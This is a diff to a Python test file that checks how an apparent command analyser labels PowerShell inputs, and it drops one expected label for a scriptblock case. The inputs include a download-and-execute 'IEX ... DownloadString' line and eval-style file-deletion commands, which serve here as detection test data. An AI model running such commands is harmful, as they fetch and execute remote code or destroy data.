@@ -9,7 +9,7 @@ CASES: list[tuple[str, list[str]]] = [
     ('$ExecutionContext.InvokeCommand.InvokeScript("rm x")', ["rm x in:invokescript via:eval"]),
     (
         "& ([scriptblock]::Create('rm x'))",
-        ["rm x in:invokescript via:eval", "\"[scriptblock]::Create('rm x')\"[?@0] <-0 opaque:program"],
+        ["rm x in:invokescript via:eval"],
     ),
     (
         'IEX (New-Object Net.WebClient).DownloadString("http://x")',
